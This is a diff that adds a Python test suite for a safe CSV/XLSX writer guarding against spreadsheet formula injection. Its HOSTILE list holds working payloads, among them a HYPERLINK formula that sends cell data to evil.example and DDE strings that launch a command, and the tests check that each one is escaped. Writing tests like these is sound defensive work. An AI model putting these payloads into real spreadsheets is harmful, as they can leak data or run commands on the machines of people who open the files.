@@ -1,0 +1,104 @@
+"""The one safe tabular writer: no formula and no control character leaves in a CSV or XLSX."""
+
+import csv
+import datetime as dt
+import io
+import re
+from decimal import Decimal
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from openpyxl import load_workbook
+
+from core import tabular
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+SUM(1,2)",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_formula_starts_become_text(text):
+    assert tabular.safe_text(text).startswith("'")
+
+
+@pytest.mark.parametrize("text", ["+66 2 141 7000", "-12.5", "0 2141 7000", "(02) 141-7000"])
+def test_phone_numbers_and_figures_are_left_alone(text):
+    assert tabular.safe_text(text) == text
+
+
+def test_control_bidi_and_illegal_xml_characters_are_dropped_but_tab_and_newline_kept():
+    text = "a\x00b\x01c\x1fd\x7fe\x85f\u202eg\u2066h\ufffei\tj\nk\rl"
+    assert tabular.safe_text(text) == "abcdefghi\tj\nk\rl"
+
+
+def test_a_control_character_cannot_hide_a_formula():
+    assert tabular.safe_text("\x01=1+1") == "'=1+1"
+
+
+def test_cells_longer_than_xlsx_allows_are_cut():
+    assert len(tabular.safe_text("ก" * 40_000)) == tabular.XLSX_MAX_CELL
+
+
+def test_numbers_dates_and_none_pass_through():
+    row = [1, 2.5, Decimal("3.1"), True, None, dt.date(2026, 1, 2)]
+    assert tabular.safe_row(row) == row
+
+
+def _xlsx_cells(sheets):
+    book = load_workbook(io.BytesIO(tabular.xlsx_bytes(sheets)))
+    return {ws.title: [[c.value for c in row] for row in ws.iter_rows()] for ws in book}
+
+
+def test_xlsx_with_hostile_text_opens_and_holds_no_formula():
+    rows = [[text, "x\x01y", 5] for text in HOSTILE]
+    cells = _xlsx_cells([tabular.Sheet("s", ["name", "other", "n"], rows)])["s"]
+    assert cells[0] == ["name", "other", "n"]
+    for row, text in zip(cells[1:], HOSTILE, strict=True):
+        assert row[0] == "'" + text.lstrip("\t\r") or row[0].startswith("'")
+        assert row[1] == "xy" and row[2] == 5
+    book = load_workbook(io.BytesIO(tabular.xlsx_bytes([tabular.Sheet("s", ["a"], [["=1+1"]])])))
+    assert book["s"]["A2"].data_type == "s"  # a string, never a formula ("f")
+
+
+def test_xlsx_writes_dates_numbers_and_blank_cells():
+    aware = dt.datetime(2026, 11, 30, 10, 0, tzinfo=dt.UTC)
+    rows = [[dt.date(2026, 1, 2), aware, Decimal("1.5"), None, True, ""]]
+    cells = _xlsx_cells([tabular.Sheet("s", list("abcdef"), rows)])["s"]
+    assert cells[1][:5] == [dt.datetime(2026, 1, 2), dt.datetime(2026, 11, 30, 10), 1.5, None, True]
+
+
+def test_sheet_titles_follow_excels_rules():
+    taken: set[str] = set()
+    assert tabular.sheet_title("a/b:c", taken) == "a b c"
+    assert tabular.sheet_title("ก" * 40, taken) == "ก" * 31
+    assert tabular.sheet_title("A B C", taken) == "A B C (2)"
+    assert tabular.sheet_title("", taken) == "Sheet"
+
+
+def test_csv_escapes_and_strips_and_keeps_rfc4180_line_ends():
+    text = "".join(tabular.csv_chunks(["h"], [["=1+1"], ["a\x00b"]], bom=True))
+    assert text.startswith("\ufeffh\r\n")
+    assert list(csv.reader(io.StringIO(text.lstrip("\ufeff")))) == [["h"], ["'=1+1"], ["ab"]]
+
+
+@settings(max_examples=60, deadline=None)
+@given(st.lists(st.text(max_size=40), min_size=1, max_size=4))
+def test_any_text_makes_a_readable_workbook_without_formulas(texts):
+    book = load_workbook(io.BytesIO(tabular.xlsx_bytes([tabular.Sheet("s", ["h"], [texts])])))
+    for cell in book["s"][2]:
+        assert cell.data_type != "f"
+        value = cell.value
+        # a formula start is escaped, unless the text is a plain number or phone number
+        assert (
+            value is None
+            or value[0] not in "=+-@"
+            or re.fullmatch(r"[+\-]?[0-9][0-9 ().+\-]*", value)
+        )
